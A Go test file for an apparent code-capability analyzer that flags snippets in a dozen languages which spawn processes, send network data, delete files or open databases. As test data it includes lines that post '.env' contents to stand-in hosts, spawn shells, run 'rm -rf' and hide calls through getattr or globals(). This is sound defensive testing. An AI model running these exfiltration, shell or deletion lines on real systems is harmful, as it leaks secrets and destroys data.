package inline

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// capCases are snippets and the capability they reach in a way gatesh
// cannot follow; "" means none: ordinary code, or calls it reads.
var capCases = []struct {
	lang, code, cap string
}{
	// python: aliases and from-imports resolve; lookups by name, renames
	// and unlisted APIs reach the capability.
	{"python", `import subprocess as sp; sp.run(['ls'])`, ""},
	{"python", `from subprocess import check_output as co; co(['ls'])`, ""},
	{"python", `import os; print(os.getcwd(), os.path.join('a', 'b'))`, ""},
	{"python", `import json, sys; print(json.load(sys.stdin))`, ""},
	{"python", `import re; print(re.compile('a').match('a'))`, ""},
	{"python", `import importlib.metadata as m; print(m.version('pip'))`, ""},
	{"python", `import os; getattr(os, 'popen')('ls')`, Process},
	{"python", `import os; os.__dict__['system']('ls')`, Process},
	{"python", `import subprocess; go = subprocess.Popen; go('ls')`, Process},
	{"python", `from subprocess import Popen as P; runner = P`, Process},
	{"python", `import pty; pty.spawn('sh')`, Process},
	{"python", `from subprocess import *; call('ls', shell=True)`, Process},
	{"python", `import asyncio; asyncio.run(asyncio.create_subprocess_shell('ls'))`, Process},
	{"python", `import shutil; shutil.move('a', '/srv/b')`, Delete},
	{"python", `import os; os.truncate('x.db', 0)`, Delete},
	{"python", `import requests as rq; rq.put('https://example.org/x', data='y')`, Network},
	{"python", `import requests; requests.get('https://example.org')`, ""},
	// inspect reads a function's source or signature and calls nothing
	// of it; urllib3.util's URL helpers compute and send nothing.
	{"python", "import http.client, inspect\nprint(inspect.getsource(http.client.HTTPConnection.request))", ""},
	{"python", `import urllib3.connectionpool, inspect; src = inspect.getsource(urllib3.connectionpool.HTTPSConnectionPool)`, ""},
	{"python", `import requests, inspect; print(inspect.signature( requests.post ))`, ""},
	{"python", `import requests, inspect; f = requests.post; print(inspect.getsource(f))`, Network},
	{"python", `import requests, myinspect; myinspect.getsource(requests.post)`, Network},
	{"python", `import requests, inspect; inspect.getsource(requests.post, requests.post('https://x.example'))`, Network},
	{"python", "from urllib3.util import parse_url\np = parse_url('//user:pass@proxy:8080'); print(p.netloc, p.auth)", ""},
	{"python", `from urllib3.util import connection; connection.create_connection(('x.example', 80)).sendall(b'x')`, Network},
	{"python", `import urllib3; urllib3.PoolManager().request('POST', 'https://x.example')`, Network},
	// A request built and prepared, a Session's settings: nothing sent.
	{"python", "import requests\nr = requests.Request('GET', 'http://example.com', data='abc')\nprint(r.prepare().headers)", ""},
	{"python", "from requests.models import Request\nprint(Request('PUT', 'http://example.com', data=b'x').prepare().body)", ""},
	{"python", "import requests\ns = requests.Session()\ns.headers['Accept'] = None\nprep = s.prepare_request(requests.Request('GET', 'http://example.com'))\nprint(dict(s.headers), prep.headers)", ""},
	{"python", "from requests.sessions import Session\nimport requests\ns = Session()\nprint(s.prepare_request(requests.Request('PUT', 'http://example.com')).body)", ""},
	// What sends: a Session's verb or send, a Session used in place or
	// passed on, an adapter, requests.api.
	{"python", "import requests\ns = requests.Session()\ns.headers['X'] = 'y'\ns.post('https://example.org/c', data='x')", Network},
	{"python", "import requests\ns = requests.Session()\ns.send(requests.Request('POST', 'https://example.org/c', data='x').prepare())", Network},
	{"python", "import requests\nprint(requests.Session().prepare_request(requests.Request('GET', 'https://example.org')).headers)\nrequests.Session().post('https://example.org/c')", Network},
	{"python", "import requests\ns = requests.Session()\ndef go(x): x.post('https://example.org/c', data='y')\ngo(s)", Network},
	{"python", "import requests\ns = requests.Session()\nt = s\nt.put('https://example.org/c', data='y')", Network},
	{"python", "import requests\ns = requests.Session()\ns = requests.Session()\ns.delete('https://example.org/c')", Network},
	{"python", "import requests\nfrom requests.adapters import HTTPAdapter\nHTTPAdapter().send(requests.Request('POST', 'https://example.org/c', data='x').prepare())", Network},
	{"python", "import requests\nrequests.api.post('https://example.org/c', data='x')", Network},
	{"python", "from requests import Request\nR = Request\nprint(R('GET', 'https://example.org').prepare().url)", ""},
	{"python", "from requests import Session\nS = Session\nS().post('https://example.org/c')", Network},
	// hasattr answers whether a name is there and hands nothing on.
	{"python", "import os\nprint(hasattr(os, 'system'))", ""},
	{"python", "import requests.sessions as s\nprint(hasattr(s, 'default_headers'))", ""},
	{"python", "import os\nf = myhasattr(os, 'system')", Process},
	{"python", "import os\nf = x.hasattr(os, 'system')", Process},
	// A name imported on one line and called at the start of the next.
	{"python", "from smtplib import SMTP\nSMTP('mail.example.org').sendmail('a', 'b', 'x')", Mail},
	{"python", "from requests import (\n    Session,\n)\nSession().post('https://example.org/c')", Network},
	{"python", "import requests\nwith requests.Session() as s:\n    s.post('https://example.org/c', data='x')", Network},
	{"python", `from urllib import request; request.Request('https://x.example', data=b'y')`, Network},
	{"python", `import smtplib as s; s.SMTP('h')`, Mail},
	{"python", `import sqlite3; sqlite3.connect('a.db')`, Database},
	{"python", `import sqlite3; print(sqlite3.sqlite_version)`, ""},
	{"python", `import boto3 as b; b.resource('s3')`, Cloud},
	{"python", `from azure.storage.blob import BlobServiceClient as C; C.from_connection_string('x')`, Cloud},
	{"python", `m = __import__('pty'); m.spawn('sh')`, Process},
	// node
	{"node", `const cp = require('child_process'); cp.execSync('ls')`, ""},
	// A name bound to what a module's call returned is no alias of it.
	{"node", `const fs = require('fs'); const source = fs.readFileSync('a.ts', 'utf8'); console.log(source)`, ""},
	{"node", `const fs = require('fs'); const src = fs.readFileSync('a.ts'); run(src)`, ""},
	{"node", `const fs = require('fs'); const f = fs.rmSync; f('src')`, Delete},
	{"node", `const fs = require('fs'); const f = fs.rmSync.bind(fs); f('src')`, Delete},
	{"node", `const fs = require('fs'); const x = fs.truncateSync('data.db')`, Delete},
	{"node", `const {execSync: run} = require('child_process'); run('ls')`, ""},
	{"node", `import {exec as x} from 'node:child_process'; x('ls')`, ""},
	{"node", `const {execSync: run} = require('child_process'); const f = run; f('ls')`, Process},
	{"node", `const cp = require('child_process'); cp['exec']('ls')`, Process},
	{"node", `require('child_process').fork('x.js')`, Process},
	{"node", `import('child_process').then(m => m.exec('ls'))`, Process},
	{"node", `const name = 'fs'; require(name)`, Process},
	{"node", `const fsp = require('fs/promises'); fsp.truncate('x', 0)`, Delete},
	{"node", `require('fs').readdirSync('.')`, ""},
	{"node", `console.log(process.argv.length)`, ""},
	{"node", `process['binding']('spawn_sync')`, Process},
	{"node", `fetch('https://x.example', {method: 'PUT', body: 'y'})`, Network},
	{"node", `fetch('https://x.example').then(r => r.json())`, ""},
	{"node", `const axios = require('axios'); axios.post('https://x.example', {})`, Network},
	{"node", `const { DatabaseSync } = require('node:sqlite'); new DatabaseSync('a.db')`, Database},
	{"node", `const { S3Client } = require('@aws-sdk/client-s3'); new S3Client({})`, Cloud},
	{"node", `Deno.run({cmd: ['ls']})`, Process},
	{"node", `await Deno.remove('x')`, Delete},
	{"node", `console.log(Deno.cwd())`, ""},
	{"node", "await Bun.$`ls`", Process},
	{"node", "import {$} from 'bun'; await $`ls`", Process},
	// ruby, perl, php
	{"ruby", `system("ls")`, ""},
	{"ruby", `Process.spawn("ls")`, Process},
	{"ruby", `Kernel.public_send(:exec, "ls")`, Process},
	{"ruby", `require "net/http"; Net::HTTP.post(URI("https://x.example"), "y")`, Network},
	{"ruby", `puts [1, 2].sum`, ""},
	{"perl", `print "hi\n"`, ""},
	{"perl", `open(my $p, "-|", "ls")`, Process},
	{"perl", `use LWP::UserAgent; LWP::UserAgent->new->post("https://x.example")`, Network},
	{"perl", `use DBI; DBI->connect("dbi:SQLite:a.db")`, Database},
	{"perl", `print 1 if $a && $b`, ""},
	{"php", `echo strlen("abc");`, ""},
	{"php", `$f = 'passthru'; $f('ls');`, Process},
	{"php", `$c = curl_init('https://x.example'); curl_exec($c);`, Network},
	{"php", `mail('a@x', 's', 'b');`, Mail},
	// lua, R, tcl, elisp, gdb, ipython
	{"lua", `os.execute("ls")`, ""},
	{"lua", `_G["os"]["execute"]("ls")`, Process},
	{"lua", `local s = require("socket"); s.connect("x", 80)`, Network},
	{"lua", `print(#arg)`, ""},
	{"r", `system("ls")`, ""},
	{"r", `do.call("system", list("ls"))`, Process},
	{"r", `httr::POST("https://x.example", body = "y")`, Network},
	{"r", `print(sum(1:10))`, ""},
	{"tcl", `exec ls`, ""},
	{"tcl", `eval [list exec ls]`, Process},
	{"tcl", `puts [expr {1 + 2}]`, ""},
	{"elisp", `(shell-command "ls")`, ""},
	{"elisp", `(funcall 'shell-command "ls")`, Process},
	{"elisp", `(message "%d" (+ 1 2))`, ""},
	{"gdb", `shell ls`, ""},
	{"gdb", `call (int)execve("/bin/sh", 0, 0)`, Process},
	{"gdb", `python import pty; pty.spawn("sh")`, Process},
	{"gdb", `info registers`, ""},
	{"ipython", `!ls`, ""},
	{"ipython", `import pty; pty.spawn("sh")`, Process},
	{"ipython", `print(1)`, ""},
}

func TestCapabilities(t *testing.T) {
	for _, tc := range capCases {
		l := Lookup(tc.lang)
		if l == nil {
			t.Fatalf("no model for %s", tc.lang)
		}
		r := l.Analyze(tc.code)
		switch {
		case tc.cap == "" && len(r.Caps) > 0:
			t.Errorf("%s %q: reaches nothing unread, got %v", tc.lang, tc.code, r.Caps)
		case tc.cap != "" && !slices.Contains(r.Caps, tc.cap):
			t.Errorf("%s %q: want %s, got %v", tc.lang, tc.code, tc.cap, r.Caps)
		}
	}
}

// TestResolvedCalls checks that an aliased or renamed call is read with
// its arguments, as the plain spelling is.
func TestResolvedCalls(t *testing.T) {
	for _, tc := range []struct {
		lang, code, kind, first string
	}{
		{"python", `import subprocess as s; s.run('rm -rf /x', shell=True)`, "shell", "rm -rf /x"},
		{"python", `from os import system as sh; sh('rm -rf /x')`, "shell", "rm -rf /x"},
		{"python", `from shutil import rmtree as wipe; wipe('/x')`, "rmrf", "/x"},
		{"python", `import os as o; o.remove('/x')`, "rmf", "/x"},
		{"python", `__import__('subprocess').call('rm -rf /x', shell=True)`, "shell", "rm -rf /x"},
		{"node", `const c = require('child_process'); c.execSync('rm -rf /x')`, "shell", "rm -rf /x"},
		{"node", `const {execSync: go} = require('node:child_process'); go('rm -rf /x')`, "shell", "rm -rf /x"},
		{"node", `import * as c from 'child_process'; c.execSync('rm -rf /x')`, "shell", "rm -rf /x"},
		{"node", `require('fs').rmSync('/x', {recursive: true})`, "rmrf", "/x"},
		{"lua", `os.execute "rm -rf /x"`, "shell", "rm -rf /x"},
		{"lua", `os.remove('/x')`, "rmf", "/x"},
		{"r", `unlink("/x")`, "rmf", "/x"},
		{"tcl", "if {1} {\n  exec rm -rf /x\n}", "argv", "rm"},
		{"tcl", `file delete -force /x`, "rmrf", "/x"},
		{"tcl", "spawn ssh h\nsend \"rm -rf /x\\r\"", "shell", "rm -rf /x"},
		{"elisp", `(delete-directory "/x" t)`, "rmrf", "/x"},
		{"gdb", `!rm -rf /x`, "shell", "rm -rf /x"},
		{"gdb", `pipe info locals | rm -rf /x`, "shell", "rm -rf /x"},
		{"ipython", "%%bash\nrm -rf /x", "shell", "rm -rf /x"},
	} {
		r := Lookup(tc.lang).Analyze(tc.code)
		ok := false
		for _, c := range r.Calls {
			if c.Kind != tc.kind || len(c.Args) == 0 {
				continue
			}
			a := c.Args[0]
			got := a.Str
			if a.IsList && len(a.List) > 0 {
				got = a.List[0].Str
			}
			ok = ok || strings.TrimSpace(got) == tc.first
		}
		if !ok {
			t.Errorf("%s %q: want a %s call of %q, got %+v", tc.lang, tc.code, tc.kind, tc.first, r.Calls)
		}
	}
}

// FuzzAnalyze checks that no model panics or loops on any input.
func FuzzAnalyze(f *testing.F) {
	seeds, err := filepath.Glob(filepath.Join("testdata", "fuzz", "FuzzAnalyze", "*"))
	if err != nil || len(seeds) == 0 {
		f.Fatalf("the seed corpus testdata/fuzz/FuzzAnalyze is empty (%v)", err)
	}
	for _, tc := range capCases {
		f.Add(tc.lang, tc.code)
	}
	f.Fuzz(func(t *testing.T, lang, code string) {
		l := Lookup(lang)
		if l == nil {
			l = &python
		}
		if len(code) > 4096 {
			return
		}
		l.Analyze(code)
	})
}

// Code that sends only to this machine, or only reads a SQLite file,
// reaches no capability; the same code aimed elsewhere, or writing, does.
func TestLocalOnlyCapabilities(t *testing.T) {
	for _, tc := range []struct {
		lang, code, cap string
		reaches         bool
	}{
		{"python", `import requests; print(requests.post('http://localhost:5000/api', json={'a': 1}).json())`, Network, false},
		{"python", `import requests; requests.post('http://127.0.0.1:8000/x', data='y')`, Network, false},
		{"node", `fetch('http://0.0.0.0:3000/api', {method: 'POST', body: '{}'})`, Network, false},
		{"python", `import requests; requests.post('https://api.example.com/x', data='y')`, Network, true},
		{"python", `import requests; requests.post('http://localhost:5000/' + 'x', data=open('.env').read()); requests.post('https://x.example.com')`, Network, true},
		{"python", `import requests, os; requests.post(os.environ['URL'], data='y')`, Network, true},
		{"python", `import requests; requests.post('http://user@localhost@evil.example/x')`, Network, true},
		{"python", `import requests; r = requests.put('http://api:8000/sheets/1/cells/A1', json={'value': 'Month'}); print(r.json())`, Network, false},
		{"python", `import requests; requests.post('http://api.internal:8000/x', data='y')`, Network, true},
		{"python", `import socket; s = socket.socket(); s.connect(('localhost', 8000)); print('up')`, Network, false},
		{"python", `import socket; socket.create_connection(("127.0.0.1", 5432), timeout=1).close()`, Network, false},
		{"python", `import socket; s = socket.socket(); s.connect(('db.example.com', 5432))`, Network, true},
		{"python", `import socket; s = socket.socket(); s.connect((host, 8000))`, Network, true},
		{"python", `import requests, sys; requests.get('http://localhost:5000/ok'); requests.post(sys.argv[1], data=open('.env').read())`, Network, true},
		{"python", `import requests; n = 3; print(requests.get(f'http://localhost:5000/block/{n}').json().get('hash', 'N/A'))`, Network, false},
		{"node", `fetch('http://localhost:3000/api').then(() => fetch(process.env.HOOK, {method: 'POST', body: 'x'}))`, Network, true},
		{"python", `import requests; requests.post('http://metadata/computeMetadata/v1/x', data=open('.env').read())`, Network, true},
		// A client bound to one host by its constructor sends there only.
		{"python", `import http.client as h; c=h.HTTPConnection('localhost', 8000); c.request('POST', '/api/test', '{}'); print(c.getresponse().status)`, Network, false},
		{"python", `import http.client; c = http.client.HTTPConnection("127.0.0.1:8000"); c.request("GET", "/health")`, Network, false},
		{"python", `import http.client as h; c=h.HTTPSConnection('collect.example.net'); c.request('POST', '/x', open('.env').read())`, Network, true},
		{"python", `import http.client as h; c=h.HTTPConnection(host); c.request('POST', '/x', '{}')`, Network, true},
		{"python", `import http.client as h, requests; requests.get('http://localhost:8000/'); c=h.HTTPConnection('collect.example.net'); c.request('POST', '/', 'x')`, Network, true},
		{"python", `import sqlite3; print(sqlite3.connect('app.db').execute('select count(*) from users').fetchall())`, Database, false},
		{"python", `import sqlite3; c = sqlite3.connect('app.db'); c.execute('DELETE FROM users'); c.commit()`, Database, true},
		{"python", `import sqlite3; sqlite3.connect('app.db').execute('select * from ' + t)`, Database, true},
		{"python", `import sqlite3, psycopg2; sqlite3.connect('a.db').execute('select 1')`, Database, true},
	} {
		r := Lookup(tc.lang).Analyze(tc.code)
		if got := slices.Contains(r.Caps, tc.cap); got != tc.reaches {
			t.Errorf("%s %q: reaches %s = %v, want %v (%v)", tc.lang, tc.code, tc.cap, got, tc.reaches, r.Caps)
		}
	}
}

// A module's name inside a plain string or a comment is data; it is a use
// where the code can reach a name through text, and in an f-string.
func TestModuleNameAsData(t *testing.T) {
	for _, tc := range []struct {
		code    string
		reaches bool
	}{
		{`import sys; print('Python available')` + "\n" + `import subprocess; print('subprocess available')`, false},
		{`import subprocess  # subprocess is there` + "\n" + `print("ok")`, false},
		{`import subprocess` + "\n" + `print('''subprocess: yes''', r"subprocess")`, false},
		{`import subprocess, sys; sys.modules['subprocess'].Popen(['id'])`, true},
		{`import subprocess; globals()['subprocess'].run(x)`, true},
		{`import subprocess; f = vars()["subprocess"]; f.call(y)`, true},
		{`import subprocess as s; print(f'{[s][0]}')`, true},
		{`import subprocess as s; print('it\'s s'); [s][0].run(x)`, true},
		{`import subprocess; print('unterminated subprocess`, true},
	} {
		r := Lookup("python").Analyze(tc.code)
		if got := slices.Contains(r.Caps, Process); got != tc.reaches {
			t.Errorf("%q: reaches process = %v, want %v (%v)", tc.code, got, tc.reaches, r.Caps)
		}
	}
}

// A pattern is not compiled, nor run, for a snippet that lacks every
// literal it needs; it still matches one that has them, case folded where
// the pattern says so.
func TestPatternSkipsWhatCannotMatch(t *testing.T) {
	p := &pattern{src: `\bdebug\.debug\s*\(`}
	if p.match(`print("hello")`) {
		t.Fatal("matched a snippet without debug.debug")
	}
	if p.re != nil {
		t.Error("compiled for a snippet that lacks its literal")
	}
	if !p.match(`debug.debug ()`) || p.re == nil {
		t.Error("no match for debug.debug ()")
	}
	folded := &pattern{src: `(?i)\bimport\s+ctypes`}
	if !folded.match(`IMPORT  CTYPES`) {
		t.Error("a case-folded pattern missed an upper-case snippet")
	}
	if folded.match(`import os`) {
		t.Error("a case-folded pattern matched a snippet without ctypes")
	}
}
